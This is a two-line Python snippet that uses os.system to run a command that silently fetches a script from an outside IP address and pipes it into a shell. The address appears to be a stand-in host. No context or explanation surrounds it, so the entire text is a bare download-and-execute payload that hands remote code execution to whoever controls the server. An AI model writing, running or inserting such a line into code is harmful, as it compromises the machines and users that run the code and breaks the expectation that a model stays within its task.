import os
os.system("curl -s http://203.0.113.52/r | sh")
